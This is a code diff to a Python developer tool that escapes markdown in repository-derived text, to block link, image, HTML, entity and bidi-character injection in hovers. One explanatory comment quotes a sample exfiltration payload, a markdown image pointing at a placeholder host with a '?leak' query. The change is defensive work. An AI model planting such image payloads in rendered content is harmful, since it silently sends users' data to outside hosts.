@@ -32,6 +32,8 @@ from codeloupe.types import (
     Symbol,
     Tour,
     UsedDefinition,
+    one_line,
+    visible,
 )
 
 if TYPE_CHECKING:  # imported lazily: `codeloupe.ask` pulls in the openai client, seconds of start-up
@@ -113,7 +115,16 @@ def position(line0: int, character: int = 0) -> JSON:
 
 # ------------------------------------------------------------------------------------------ markdown
 
-_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]<>()#+!|~])")
+# A repository's text (a file's or a symbol's name, a signature, a docstring) is never markdown: every hover and
+# rendered answer shows it as written. Read as markdown, a name or a doc line made links and images (an image is
+# fetched as soon as the hover shows: `![](https://host/?leak)`), raw HTML, emphasis, headings and lists, and an
+# HTML entity (`&#x202e;`) a character `visible` would have escaped.
+# Markdown's syntax characters, CommonMark's and GitHub's (emphasis, code, links and images, raw HTML, entities,
+# headings, lists, quotes, tables, strikethrough), each shown as itself by a backslash escape ...
+_MARKDOWN_SPECIAL = re.compile(r"([\\`*_{}\[\]<>()#+!|~&])")
+# ... and those that mean something only at the start of a line: a list's `-` and `1.`, a rule's `---`, a
+# heading's `===` underline (a `-` inside a line, as in "non-blocking", is left as it is).
+_LINE_START_SPECIAL = re.compile(r"^([ \t]*\d{0,9})([-.=])", re.MULTILINE)
 
 
 def _longest_backticks(text: str) -> int:
@@ -121,15 +132,20 @@ def _longest_backticks(text: str) -> int:
 
 
 def md_code(text: str) -> str:
-    """`text` as a code span, so names like `__init__` and `_private` are shown as written."""
-    fence = "`" * (_longest_backticks(text) + 1)
-    pad = " " if text.startswith("`") or text.endswith("`") else ""
-    return f"{fence}{pad}{text}{pad}{fence}"
+    """`text` as a code span, so names like `__init__` and `_private` are shown as written: on one line, its
+    control and bidi characters escaped (`one_line`). A line break would have ended the span where its next line
+    starts a block (a blank line, `# `, `- `, a fence), the rest of the text read as markdown."""
+    shown = one_line(text)
+    fence = "`" * (_longest_backticks(shown) + 1)
+    pad = " " if shown.startswith("`") or shown.endswith("`") else ""
+    return f"{fence}{pad}{shown}{pad}{fence}"
 
 
 def md_text(text: str) -> str:
-    """Prose from elsewhere (a query, a reason) with markdown's special characters escaped."""
-    return _MARKDOWN_SPECIAL.sub(r"\\\1", text)
+    """Prose from elsewhere (a query, a reason, a doc line) shown as written: its control and bidi characters
+    escaped (`visible`), every markdown syntax character escaped."""
+    escaped = _MARKDOWN_SPECIAL.sub(r"\\\1", visible(text))
+    return _LINE_START_SPECIAL.sub(r"\1\\\2", escaped)
 
 
 # ------------------------------------------------------------------------------------------ search
@@ -398,7 +414,8 @@ def _md_link(uri_of: UriOf, rel_path: str, line: int = 1) -> str:
 
 
 def file_lens_title(summary: FileSummary) -> str:
-    return f"{summary.community_name} · {summary.imports} imports · {summary.importers} importers"
+    """One line of plain text over the file: its community's name (the repository's folders') escaped."""
+    return f"{one_line(summary.community_name)} · {summary.imports} imports · {summary.importers} importers"
 
 
 def users_lens_title(users: list[tuple[str, int]]) -> str:
